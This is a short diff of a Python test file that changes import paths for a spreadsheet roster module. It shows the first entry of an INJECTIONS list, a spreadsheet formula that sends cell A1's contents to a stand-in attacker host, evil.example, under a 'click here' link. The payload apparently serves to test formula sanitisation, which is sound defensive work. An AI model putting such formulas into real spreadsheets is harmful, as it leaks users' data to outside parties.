@@ -8,8 +8,8 @@ from pathlib import Path
 import pytest
 from openpyxl import load_workbook
 
-from linghuo.registry.rosters import ROSTER, error_report_bytes, formula_safe, parse_file, write_error_report
-from tests.registry.rosters.files import ROSTER_HEADERS, roster_row, write_xlsx
+from linghuo.spreadsheets import ROSTER, error_report_bytes, formula_safe, parse_file, write_error_report
+from tests.spreadsheets.files import ROSTER_HEADERS, roster_row, write_xlsx
 
 INJECTIONS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
